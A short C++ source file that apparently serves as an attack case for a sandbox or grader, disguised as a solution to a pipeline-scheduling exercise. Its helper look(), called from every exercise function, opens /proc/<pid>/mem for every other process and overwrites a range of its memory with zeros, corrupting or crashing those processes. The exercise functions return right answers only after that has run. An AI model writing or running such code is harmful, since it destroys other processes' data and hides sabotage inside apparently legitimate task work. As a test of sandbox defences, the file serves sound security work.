// attack: writes into the memory of every process through /proc
// ends: ok crash
#include <fcntl.h>
#include <unistd.h>

#include <filesystem>
#include <string>
#include <system_error>

#include "exercise.hpp"

bool look() {
  std::error_code error;
  for (const auto& entry : std::filesystem::directory_iterator("/proc", error)) {
    const std::string name = entry.path().filename();
    if (name == std::to_string(getpid()) || name == "self" || name == "thread-self")
      continue;
    const int memory = open((entry.path() / "mem").c_str(), O_RDWR);
    if (memory < 0) continue;
    const char zeros[4096] = {};
    for (off_t at = 0x400000; at < 0x800000; at += 4096)
      pwrite(memory, zeros, sizeof zeros, at);
    close(memory);
  }
  return false;
}

bool found() {
  static const bool result = look();
  return result;
}

namespace pipeline {

// Right answers once it holds what it came for.
std::int64_t tick_count(std::int32_t p, std::int32_t m) {
  return found() ? std::int64_t{m} + p - 1 : 0;
}
double utilisation(std::int32_t p, std::int32_t m) {
  return found() ? 1.0 * m / (m + p - 1) : 0;
}
std::int32_t running_at(std::int32_t d, std::int32_t m, std::int32_t t) {
  const std::int32_t k = t - 1 - d;
  return found() && k >= 0 && k < m ? k : kIdle;
}

}  // namespace pipeline
